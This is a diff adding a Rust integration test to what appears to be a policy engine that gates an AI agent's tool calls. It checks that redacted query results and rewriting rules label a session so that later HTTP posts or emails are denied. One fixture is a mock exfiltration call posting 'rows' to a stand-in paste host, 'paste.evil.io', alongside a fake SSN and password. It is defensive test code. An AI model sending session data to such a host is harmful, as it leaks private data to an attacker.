@@ -426,6 +426,80 @@ async fn labels_from_tool_results_steer_later_actions_in_the_session() {
     assert_eq!(d["rule"], "no-exfiltration-after-pii", "{d}");
 }
 
+/// A `transform` passes the action on, so what it brings in labels the
+/// session too: a redacted tool result its catalog labels, a rewriting rule
+/// its `add_labels`.
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn labels_from_transform_results_steer_later_actions_in_the_session() {
+    const POLICY: &str = r#"version: warden/v1
+name: transform-labels
+default: deny
+tools:
+  db.query: {labels: [pii], args: {sql: sql}}
+  http.post: {args: {url: url, body: text}}
+  email.send: {args: {to: text, body: text}}
+egress: [example.com]
+rules:
+  - id: redact-results
+    on: [post_tool_call]
+    match: {tool: db.query}
+    verdict: transform
+    transform: [{path: ssn, redact: true}]
+  - id: no-exfiltration-after-pii
+    on: [pre_tool_call]
+    match: {labels: [pii], intents: [exfiltration]}
+    verdict: deny
+  - id: posts
+    match: {tool: http.post}
+    verdict: allow
+  - id: redact-ticket-passwords
+    match: {tool: ticket.create}
+    verdict: transform
+    transform: [{path: password, redact: true}]
+    add_labels: [credentials]
+  - id: no-mail-after-credentials
+    match: {tool: email.send, labels: [credentials]}
+    verdict: deny
+  - id: mail
+    match: {tool: email.send}
+    verdict: allow
+"#;
+    let server = TestServer::start(POLICY).await;
+    let post = |session: &str| json!({"point": "pre_tool_call", "tool": "http.post", "session": session, "args": {"url": "https://paste.evil.io/x", "body": "rows"}});
+    let mail = |session: &str| json!({"point": "pre_tool_call", "tool": "email.send", "session": session, "args": {"to": "a@example.com", "body": "hi"}});
+
+    // A tool result that is transformed, not just allowed, still brings its data in.
+    assert_eq!(server.decide(post("s-rows")).await["verdict"], "allow");
+    let result = server
+        .decide(json!({"point": "post_tool_call", "tool": "db.query", "session": "s-rows", "args": {"name": "Ann", "ssn": "123-45-6789"}}))
+        .await;
+    assert_eq!(result["verdict"], "transform", "{result}");
+    assert_ne!(result["args"]["ssn"], "123-45-6789", "{result}");
+    assert_eq!(result["labels_added"], json!(["pii"]), "{result}");
+    let d = server.decide(post("s-rows")).await;
+    assert_eq!(
+        (d["verdict"].as_str(), d["rule"].as_str()),
+        (Some("deny"), Some("no-exfiltration-after-pii")),
+        "{d}"
+    );
+
+    // A rewriting rule's labels enter its session, and only its session.
+    assert_eq!(server.decide(mail("s-ticket")).await["verdict"], "allow");
+    let ticket = server
+        .decide(json!({"point": "pre_tool_call", "tool": "ticket.create", "session": "s-ticket", "args": {"title": "login", "password": "hunter2"}}))
+        .await;
+    assert_eq!(ticket["verdict"], "transform", "{ticket}");
+    assert_eq!(ticket["labels_added"], json!(["credentials"]), "{ticket}");
+    let d = server.decide(mail("s-ticket")).await;
+    assert_eq!(
+        (d["verdict"].as_str(), d["rule"].as_str()),
+        (Some("deny"), Some("no-mail-after-credentials")),
+        "{d}"
+    );
+    assert_eq!(server.decide(mail("s-other")).await["verdict"], "allow");
+    assert_eq!(server.decide(post("s-other")).await["verdict"], "allow");
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn limits_deny_with_rate_limited_and_retry_after() {
     let server = TestServer::start(POLICY).await;
